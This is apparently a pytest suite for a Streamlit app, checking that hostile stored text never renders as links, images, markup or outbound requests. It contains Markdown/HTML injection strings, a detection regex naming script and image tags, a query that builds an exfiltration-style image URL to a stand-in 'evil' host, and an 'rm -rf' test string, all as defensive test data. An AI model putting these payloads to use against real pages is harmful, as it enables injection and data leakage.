"""A store whose every text is an attack: on no page does any of it become a link, an image, an icon, markup or a request."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any
from urllib.parse import parse_qsl, urlencode

import pytest
from google.protobuf.message import Message

from app import data
from app.components import scripts
from app.words import plain, sentence
from store import open_store
from store.reports.findings import findings
from store.text import JOINER, unjoined
from tests.support import pages
from tests.support.browser import browser, served, window  # noqa: F401
from tests.support.hostile_store import HOST, add_labels, hostile, make_hostile_store

VIEWS = (
    "overview", "layers", "layers?view=metrics", "layers?view=template", "features", "suppressed", "review", "feature",
    "compare", "words", "documents", "answers", "query", "about",
)  # fmt: skip
OPEN = "numbers,strengths,directions,tokens,shape"
"""The parts of pages that are drawn only while they are open."""

KNOWN = {"style", "div", "span", "b", "bdi", "small", "a", "a href", "br", "i", "mark", "p", "img"}
"""The elements of the app's own HTML."""

MARKDOWN = ("body", "label", "help", "text", "delta")
"""Fields of Streamlit's elements that it reads as Markdown; of an `html` the body is HTML, and of a picker all options."""

READ = re.compile(
    rf"(?<!\\)(?:!\[|\[[lr]\]|<(?:img|svg|script)|\$x|`c`|\*\*b\*\*|:red\[)|https?:(?!{JOINER})|www(?=\\?\.)|@(?!{JOINER})|:material-|"
    r":material/home|:streamlit:|xmpp:e|\u202e|(?<!^)\n#"
)
"""What of the attack a reader of Markdown would make something of."""


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    folder = make_hostile_store(tmp_path_factory.mktemp("hostile") / "store")
    with open_store(folder) as opened:
        add_labels(folder, opened.manifest.digest)
    return folder


def protos(node: Any) -> Iterator[tuple[str, Message]]:
    """Every element of an AppTest page, containers included: its kind and its message."""
    proto = getattr(node, "proto", None)
    if isinstance(proto, Message):
        yield (node.type, proto)
    for child in getattr(node, "children", {}).values():
        yield from protos(child)


def markdown(kind: str, proto: Message) -> Iterator[str]:
    """The texts of an element that are read as Markdown."""
    known = {field.name for field in proto.DESCRIPTOR.fields}
    values = [getattr(proto, name) for name in MARKDOWN if name in known and not (kind == "html" and name == "body")]
    yield from (value for value in values if isinstance(value, str))
    if kind in ("button_group", "segmented_control", "pills"):
        yield from (option.content for option in proto.options)


class Elements(HTMLParser):
    """The elements and attributes of a page's own HTML."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[str] = set()
        self.feed(str(page))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        drawn = tag == "img" and dict(attrs).get("src", "").startswith("data:image/svg+xml;base64,")
        self.found |= {f"{tag} {name}" for name, _ in attrs if name.startswith("on") or (name in ("src", "href") and not drawn)}


@pytest.mark.parametrize("view", VIEWS)
def test_no_text_of_a_page_is_read_as_more_than_text(store, monkeypatch, view):
    monkeypatch.setenv(data.VARIABLE, str(store))
    path, _, query = view.partition("?")
    app = pages.open_page(path, **dict(parse_qsl(query)), text="shown", open=OPEN, reviewer=f"Ada{hostile('')}")
    assert not app.exception and not app.error, (app.exception, app.error)
    seen = 0
    for kind, proto in protos(app._tree):
        for text in markdown(kind, proto):
            seen += HOST.replace(".", "\\.") in text or HOST in text
            assert not READ.search(text), (kind, READ.search(text)[0], text)
        if kind == "html":
            assert Elements(proto.body.replace(scripts.ELEMENT, "")).found <= KNOWN
    assert seen or view in ("query", "words"), "the page shows none of it"


def test_a_store_that_is_named_so(store, monkeypatch, tmp_path):
    """The picker of stores, what is said of one that cannot be opened, and a link that asks for one that is not there."""
    other = tmp_path / f"![i](x) www.{HOST} a@{HOST} $x $y `c`"
    other.mkdir()
    monkeypatch.setenv(data.VARIABLE, f"{store}:{other}")
    for asked in (other.name, f"![i](http://{HOST})"):
        app = pages.open_page("overview", store=asked)
        assert not app.exception
        texts = [text for kind, proto in protos(app._tree) for text in markdown(kind, proto)]
        assert not [text for text in texts if READ.search(text)]
        assert any("evil" in text for text in texts)


def test_the_findings_have_no_link(store):
    with open_store(store) as opened:
        page = findings(opened)
    assert HOST in page.replace("\\", "")
    assert not re.search(rf"https?:(?!{JOINER})//|www\.evil|@evil|<img|<svg|<script|(?<!\\)!\[|(?<!\\)\[l\]", page)
    assert not re.search(r"(?m)^(#|-) [hl]$", page)


@pytest.mark.parametrize(
    "text",
    [
        f"http://{HOST}",
        f"HTTPS://{HOST}",
        f"www.{HOST}",
        f"a@{HOST}",
        f"mailto:a@{HOST}",
        ":material/home:",
        ":streamlit:",
        "a -> b",
        "--",
        "<=",
        "://",
    ],
)
def test_second_readers_find_nothing_in_plain_text(text):
    escaped = plain(text)
    assert JOINER in escaped and escaped.replace("\\", "").replace(JOINER, "") == text
    assert not re.search(r"(?i)://|www\.|@\w|:material|:streamlit|->|--|<=", escaped.replace("\\", ""))
    assert unjoined(escaped.replace("\\", "")) == text  # which is what somebody copies from the page


def test_a_joiner_of_the_text_itself_stays():
    assert unjoined(f"a{JOINER}b") == f"a{JOINER}b"


def test_what_a_sentence_says_to_type_is_copied_as_it_is():
    said = sentence(f"There is no store at 'www.{HOST}'; make one with 'python -m extract run CONFIG --out www.{HOST}/*a*'.")
    before, command, after = re.split("(`.*`)", said)
    assert command == f"`python -m extract run CONFIG --out www.{HOST}/*a*`"
    assert before == plain(f"There is no store at 'www.{HOST}'; make one with ") and after == plain(".")


@pytest.mark.parametrize("text", ["'make `x` www.a.b'", "'rm -rf --all'", "www.a.b\n'make demo", "a -> b"])
def test_what_is_no_command_of_ours_stays_plain(text):
    assert sentence(text) == plain(text)


@pytest.mark.parametrize("text", ["Catalog Error: no", "L12:431", "12:30", "a.b", "x - y", "a, b", "50 %"])
def test_ordinary_text_gets_no_joiner(text):
    assert JOINER not in plain(text)


@pytest.mark.thorough
@pytest.mark.browser
def test_in_a_browser_nothing_leaves_and_nothing_is_made_of_the_texts(store, tmp_path, window):  # noqa: F811
    """On every page, with the mouse over every chart."""
    page = window.new_page()
    elsewhere, dialogs = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with served(store, tmp_path / "log") as address:
        page.on(
            "request", lambda asked: elsewhere.append(asked.url) if not asked.url.startswith((address, "data:", "blob:")) else 0
        )
        for view in VIEWS:
            page.goto(f"{address}/{view}{'&' if '?' in view else '?'}text=shown&open={OPEN}")
            page.get_by_role("heading", level=2).first.wait_for()
            page.wait_for_function("() => !document.querySelector('[data-testid=stStatusWidget]')")
            for chart in page.locator("[data-testid=stVegaLiteChart] svg.marks").all()[:4]:
                box = chart.bounding_box()
                if box:
                    for across in range(8):
                        page.mouse.move(box["x"] + box["width"] * (across + 0.5) / 8, box["y"] + box["height"] / 2)
            links = page.locator("a[href]").evaluate_all("all => all.map(one => one.href)")
            assert not [link for link in links if not link.startswith(address)], view
            assert page.locator("img:not([src^=data]), #vg-tooltip-element img").count() == 0, view
    page.close()
    assert (elsewhere, dialogs) == ([], [])


@pytest.mark.thorough
@pytest.mark.browser
def test_a_links_chart_shows_no_picture(store, tmp_path, window):  # noqa: F811
    """A column `image` with the address of one: neither before the click, nor after it, nor when the mouse is over a mark."""
    query = f"SELECT layer, 0.5 AS n, 'http://{HOST}/?d=' || hook_name AS image FROM layers"
    page = window.new_page()
    elsewhere = []
    with served(store, tmp_path / "log") as address:
        page.on(
            "request", lambda asked: elsewhere.append(asked.url) if not asked.url.startswith((address, "data:", "blob:")) else 0
        )
        page.goto(f"{address}/query?{urlencode({'sql': query, 'show': 'Chart', 'x': 'layer', 'y': 'n', 'colour': 'image'})}")
        page.get_by_text("has not been run").wait_for()
        assert page.locator("[data-testid=stVegaLiteChart]").count() == 0
        page.get_by_role("button", name="Run").click()
        marks = page.locator("[data-testid=stVegaLiteChart] svg.marks path[aria-roledescription=point]")
        marks.first.wait_for()
        marks.first.hover(force=True)
        page.locator("#vg-tooltip-element.visible").wait_for()
        assert "colour image" in page.locator("#vg-tooltip-element").inner_text()
        assert page.locator("#vg-tooltip-element img").count() == 0
    page.close()
    assert elsewhere == []
